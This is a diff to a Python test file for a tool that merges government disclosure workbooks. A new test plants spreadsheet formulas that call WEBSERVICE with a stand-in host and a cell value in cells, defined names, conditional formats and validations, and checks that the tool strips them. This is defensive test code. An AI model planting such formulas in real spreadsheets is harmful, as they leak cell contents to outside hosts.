@@ -1,13 +1,18 @@
 """The office's own workbook comes back with the cells marked: what is marked, what stays, and that it is read like any other."""
 
+import re
 import shutil
+import zipfile
 
 import openpyxl
 import pytest
 from district import District, cell_of
 from docx import Document
 from openpyxl.comments import Comment
+from openpyxl.formatting.rule import FormulaRule
 from openpyxl.styles import PatternFill
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
 
 from disclosure_batch.outputs.marked import ENDING
 from disclosure_batch.template.styles import ORANGE, RED
@@ -188,3 +193,33 @@ def test_what_can_not_be_marked_is_filled_into_the_official_workbook(district, l
     assert again.totals[GRANTED] == district.sums()[GRANTED] - 3
     assert again.totals["requests.new.enterprise"] == district.sums()["requests.new.enterprise"]
     assert "公开不够及时。" in (again.folder / "章节" / "5-存在的主要问题及改进情况.txt").read_text(encoding="utf-8")
+
+
+def test_nothing_in_a_copy_reaches_outward(district):
+    """Cells, names, validations, conditional formats, links: what the template has of them stays."""
+    call = 'WEBSERVICE("http://example.org/"&A1)'
+
+    def plant(book: openpyxl.Workbook) -> None:
+        page = book[SECTION_3]
+        page["Z1"] = f"={call}"
+        book.defined_names["偷看"] = DefinedName("偷看", attr_text=call)
+        page.conditional_formatting.add("D7", FormulaRule(formula=[f"{call}=1"]))
+        page.add_data_validation(DataValidation(type="custom", formula1=f"={call}", sqref="Z2"))
+        page["Z3"].hyperlink = "http://example.org/"
+
+    district.office("410801").edit(plant)
+    district.receive()
+    handed_in = openpyxl.load_workbook(district.received / "410801_示例区财政局.xlsx")
+    run = district.merge(receive=False)
+    with zipfile.ZipFile(run.folder / "退改通知" / COPY) as archive:
+        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist() if name.endswith((".xml", ".rels"))}
+    assert not [name for name, text in parts.items() if "example.org" in re.sub("<t[ >][^<]*</t>", "", text)]  # but as a text
+
+    book = copy_of(run)
+    assert book[SECTION_3]["Z1"].data_type == "s" and set(handed_in.defined_names) - set(book.defined_names) == {"偷看"}
+    for sheet in (SECTION_2, SECTION_3):
+        rules = [rule for area in book[sheet].conditional_formatting for rule in area.rules]
+        own = [rule for area in handed_in[sheet].conditional_formatting for rule in area.rules]
+        assert len(rules) == len(own) - (sheet == SECTION_3) > 0
+        checks = [len(b[sheet].data_validations.dataValidation) for b in (book, handed_in)]
+        assert checks[0] == checks[1] - (sheet == SECTION_3) > 0
